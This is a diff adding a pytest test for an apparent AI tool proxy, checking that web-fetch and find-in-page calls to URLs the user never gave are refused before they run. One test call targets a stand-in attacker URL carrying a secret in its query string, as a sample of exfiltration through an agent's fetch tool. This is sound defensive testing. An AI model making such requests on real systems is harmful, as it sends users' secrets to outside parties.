@@ -343,3 +343,36 @@ def test_iter_frame_batches_keeps_each_reads_events_together():
     assert list(iter_frame_batches(reads)) == [
         [b"data: 1\n\n", b"data: 2\n\n"], [], [b"data: 3\n\n", b"data: 4\n\n"], [], [b"data: cut"]]
 
+
+
+class Pages:
+    """A fetcher stand-in that records the URLs it was asked for: a refused URL must never reach it."""
+
+    def __init__(self, text: str = "[next](/next)"):
+        self.asked: list[str] = []
+        self.text = text
+
+    def fetch(self, url, **kw):
+        from proxy.backends.fetcher import Page
+        self.asked.append(url)
+        return Page(url, "T", self.text, "text/html", "2026-12-04T20:00:00Z", False)
+
+
+@pytest.mark.parametrize("tool, args", [("web_fetch", {}), ("find_in_page", {"pattern": "next"})])
+def test_session_refuses_an_ungiven_url_before_the_tool_runs_and_learns_links_and_hits(tool, args):
+    from proxy.tools.provenance import Given, Ledger
+    pages, refused = Pages(), []
+    session = ToolSession(Backends(FakeSearxng(), pages), max_rounds=5, max_pages_per_turn=9, max_pages_per_request=9,
+                          ledger=Ledger(given=[Given("user", "read https://docs.test/a")]), on_refused=refused.append)
+
+    def call(url: str):
+        return registry.parse(tool, {"url": url, **args})
+
+    first = session.run([call("https://docs.test/a"), call("https://evil.test/?k=secret"), search("q")])
+    assert [o.status for o in first] == ["ok", "failed", "ok"] and pages.asked == ["https://docs.test/a"]
+    assert first[1].error_code == "url_not_allowed" and "did not appear" in first[1].message
+    assert refused == ["not_given"]
+    # The search's hit and, when the tool showed the page, its links are now given.
+    second = session.run([call("https://u"), call("https://docs.test/next")])
+    learned_links = tool == "web_fetch"  # find_in_page shows excerpts, not the page: its links are not learned
+    assert [o.status for o in second] == ["ok", "ok" if learned_links else "failed"]
